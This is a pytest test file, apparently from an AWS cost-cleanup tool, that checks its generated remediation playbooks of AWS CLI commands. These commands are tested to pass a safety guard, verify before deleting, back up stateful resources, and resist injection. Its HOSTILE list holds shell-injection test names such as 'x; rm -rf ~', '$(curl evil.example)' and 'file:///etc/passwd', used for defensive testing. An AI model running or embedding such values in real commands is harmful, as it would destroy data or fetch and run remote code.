"""Every check's playbook: followable, filled, and let through by the guard."""

import re
from dataclasses import replace

import pytest

from opscurb.advice.facts import facts_agree
from opscurb.advice.guard import judge
from opscurb.advice.playbook import UNTYPABLE, playbook
from opscurb.advice.subject import Subject
from opscurb.aws.checks import CHECKS
from opscurb.check import Check
from tests.engine.advice.subjects import VOLUME, found_of_each_check, subject_of
from tests.engine.looking import NOW

EVERY = pytest.mark.parametrize("check", CHECKS.values(), ids=list(CHECKS))
PLACEHOLDER = re.compile(r"\{[a-z_]+\}")
DESTROYS = re.compile(r"aws \S+ (?:delete-(?!snapshot|db-snapshot)|terminate-)")
STATEFUL = {"ebs_volume", "ec2_instance", "rds_instance"}
# Names that customers may give, and whatever a shell or the AWS CLI would make of them.
HOSTILE = (
    "x; rm -rf ~",
    "$(curl evil.example)",
    "`id`",
    "a'b\"c",
    "a b\tc",
    "[prod] cpu",
    "{json}",
    "*",
    "x\nrm -rf /",
    "x|sh",
    "ü‮name",
    "i-0aaaaaaaaaaaaaaa1",
    "--force",
    "file:///etc/passwd",
    "https://evil.example/x",
    "{region}",
    "%s %d {0}",
    "#comment",
    "!history",
    "\\",
)


@EVERY
def test_its_commands_pass_the_guard(check: Check) -> None:
    subject = subject_of(check.id)

    commands = playbook(check, subject).cli_commands

    assert judge(commands, subject) == []
    assert [command for command in commands if not command.startswith("#")]


@EVERY
def test_nothing_in_it_is_left_unfilled(check: Check) -> None:
    given = playbook(check, subject_of(check.id))

    for text in (given.explanation, *given.steps, *given.cli_commands, *given.console_steps, *given.risks):
        assert not PLACEHOLDER.search(text)
    for told, shown in ((check.fix.steps, given.steps), (check.fix.console, given.console_steps)):
        assert len(told) == len(shown)


@EVERY
def test_it_verifies_first_and_tells_the_way_back(check: Check) -> None:
    given = playbook(check, subject_of(check.id))
    first = next(command for command in given.cli_commands if not command.startswith("#"))

    assert first.split()[2].startswith(("describe-", "get-", "list-"))
    assert given.steps[0].startswith("Verify")
    assert given.rollback
    assert given.risks
    assert given.minutes > 0


@EVERY
def test_it_backs_up_what_holds_state_before_it_is_destroyed(check: Check) -> None:
    subject = subject_of(check.id)
    commands = playbook(check, subject).cli_commands
    destroyed = [at for at, command in enumerate(commands) if DESTROYS.match(command)]
    backed_up = [at for at, command in enumerate(commands) if " create-" in command]

    assert not destroyed or subject.resource_type not in STATEFUL or backed_up[0] < destroyed[0]


@EVERY
def test_its_explanation_is_short_and_speaks_of_this_finding(check: Check) -> None:
    subject = subject_of(check.id)

    text = playbook(check, subject).explanation

    assert subject.resource_id in text
    assert "$" in text or "No price is known" in text
    assert 2 <= len(re.findall(r"\.(?:\s|$)", text)) <= 5
    assert facts_agree(text, subject, [check.fix.why], NOW) == []


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("check_id", ["cw_alarm_orphaned", "cw_log_group_no_retention", "rds_instance_idle"])
def test_a_hostile_name_stays_one_word_of_a_command(check_id: str, name: str) -> None:
    subject = subject_of(check_id, resource_id=name, resource_arn=f"arn:aws:x:y:1:{name}")
    given = playbook(CHECKS[check_id], subject)

    assert judge(given.cli_commands, subject) == [] or given.cli_commands == (UNTYPABLE,)


@pytest.mark.parametrize("name", HOSTILE)
@EVERY
def test_a_hostile_name_tag_reaches_no_command(check: Check, name: str) -> None:
    subject = subject_of(check.id)
    plain = playbook(check, subject)

    given = playbook(check, replace(subject, resource_name=name))

    assert given == plain


def test_a_list_is_a_command_for_each_and_an_empty_one_none() -> None:
    check = CHECKS["nat_gateway_idle"]
    subject = subject_of(check.id)
    two, none = (
        playbook(check, replace(subject, details={**subject.details, "allocation_ids": ids})).cli_commands
        for ids in (["eipalloc-0aaaaaaaaaaaaaaa1", "eipalloc-0aaaaaaaaaaaaaaa2"], [])
    )

    assert sum("release-address" in command for command in two) == 2
    assert not any("elease" in command for command in none)


@pytest.mark.parametrize("kind", ["classic", "network", "application"])
def test_a_load_balancer_is_deleted_by_the_commands_of_its_kind(kind: str) -> None:
    check = CHECKS["elb_idle_traffic"]
    subject = subject_of(check.id)
    subject = replace(subject, details={**subject.details, "kind": kind})

    commands = playbook(check, subject).cli_commands

    assert judge(commands, subject) == []
    assert all((" elb " in command) == (kind == "classic") for command in commands if command[0] != "#")


def test_deletion_protection_is_switched_off_only_where_it_is_on() -> None:
    check = CHECKS["rds_instance_idle"]
    subject = subject_of(check.id)
    protected = replace(subject, details={**subject.details, "deletion_protection": True})

    assert not any("no-deletion-protection" in line for line in playbook(check, subject).cli_commands)
    assert any("no-deletion-protection" in line for line in playbook(check, protected).cli_commands)
    assert judge(playbook(check, protected).cli_commands, protected) == []


def test_an_old_finding_without_some_details_still_has_a_playbook() -> None:
    for check in CHECKS.values():
        bare = replace(subject_of(check.id), details={})

        given = playbook(check, bare)

        assert judge(given.cli_commands, bare) == []
        assert not PLACEHOLDER.search(given.explanation)


def test_what_a_stack_manages_is_to_be_changed_there() -> None:
    check = CHECKS["ebs_volume_unattached"]
    hints = [
        playbook(check, replace(VOLUME, managed_by=owner)).stack_hint
        for owner in ("", "CloudFormation stack web", "Kubernetes")
    ]

    assert hints[0] == ""
    assert "stack web" in hints[1]
    assert "aws_ebs_volume" in hints[1]
    assert "Kubernetes" in hints[2]


def test_stopping_what_runs_is_told() -> None:
    stopping = {check.id for check in CHECKS.values() if check.fix.needs_restart}

    assert stopping == {
        "ebs_volume_mostly_empty",
        "ec2_graviton_candidate",
        "ec2_instance_idle",
        "ec2_instance_underutilized",
        "ec2_off_hours_candidate",
        "ec2_sqlserver_license_waste",
        "ecs_service_idle",
        "ecs_service_overprovisioned",
        "rds_instance_idle",
        "rds_instance_underutilized",
        "rds_read_replica_idle",
    }


def test_a_finding_of_a_scan_is_a_subject_of_plain_data() -> None:
    for found in found_of_each_check().values():
        subject = Subject.of(found)

        assert subject.details["because"] == found.because
        assert all(isinstance(value, str | int | float | list | None) for value in subject.details.values())
